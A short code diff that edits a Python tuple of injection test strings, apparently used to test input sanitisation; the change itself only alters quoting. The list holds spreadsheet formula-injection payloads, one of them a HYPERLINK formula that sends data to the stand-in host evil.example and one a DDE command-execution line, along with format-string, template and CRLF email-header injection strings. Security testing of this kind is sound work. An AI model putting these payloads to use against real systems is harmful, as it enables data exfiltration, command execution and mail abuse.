@@ -30,14 +30,14 @@ _TRICKS = (
     "%(owned)s %s %n {m}",
     "{{0.__class__}} {m}",
     # formulas of spreadsheets
-    "=HYPERLINK(\"http://evil.example/?{m}\",\"{m}\")",
+    '=HYPERLINK("http://evil.example/?{m}","{m}")',
     "=cmd|'/C calc'!A0 {m}",
     "+1+{m}",
     "-2+3*cmd {m}",
     "@SUM(1+1)*{m}",
     "\t=1+{m}",
     "\r=1+{m}",
-    "＝1+{m}",
+    "\uff1d1+{m}",
     # headers and lines
     "{m}\r\nBcc: victim@evil.example",
     "{m}\nSubject: owned",
